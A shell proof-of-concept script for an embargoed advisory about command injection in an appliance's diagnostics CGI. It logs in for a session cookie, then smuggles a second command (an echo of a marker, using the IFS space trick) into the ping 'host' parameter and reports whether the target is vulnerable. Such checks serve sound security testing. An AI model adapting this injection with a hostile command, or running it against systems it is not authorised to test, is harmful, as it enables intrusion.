#!/bin/sh
# Proof of concept for EMB-2021-0003 (embargoed, benign): the appliance's
# diagnostics CGI passes the "host" parameter to ping unquoted.  This
# script asks a test appliance to echo a marker through the injection and
# checks whether the marker comes back in the page.
set -eu

TARGET=${1:?usage: fetch_payload.sh HOST [PORT]}
PORT=${2:-8443}
MARKER="emb-$(date +%s)-$$"
CGI_PATH="/cgi-bin/diag.cgi"
COOKIE_JAR=$(mktemp /tmp/emb-cookies.XXXXXX)
trap 'rm -f "$COOKIE_JAR"' EXIT INT TERM

log() {
	printf '%s %s\n' "$(date '+%H:%M:%S')" "$*" >&2
}

fetch() {
	curl --silent --show-error --insecure --max-time 15 \
	    --cookie "$COOKIE_JAR" --cookie-jar "$COOKIE_JAR" \
	    --user-agent "Mozilla/5.0 (compatible; emb-check/1.0)" "$@"
}

login_page() {
	fetch "https://$TARGET:$PORT/" -o /dev/null -w '%{http_code}'
}

inject() {
	payload="127.0.0.1;echo${IFS:- }$MARKER"
	fetch "https://$TARGET:$PORT$CGI_PATH" \
	    --data-urlencode "host=$payload" \
	    --data "count=1&action=ping"
}

code=$(login_page)
if [ "$code" != "200" ] && [ "$code" != "302" ]; then
	log "unexpected answer $code from $TARGET:$PORT"
	exit 2
fi
log "session cookie stored in $COOKIE_JAR"

page=$(inject || true)
case $page in
*"$MARKER"*)
	log "marker $MARKER echoed back"
	echo "VULNERABLE"
	exit 1
	;;
*)
	log "marker not found in $(printf '%s' "$page" | wc -c) bytes"
	echo "not vulnerable"
	exit 0
	;;
esac
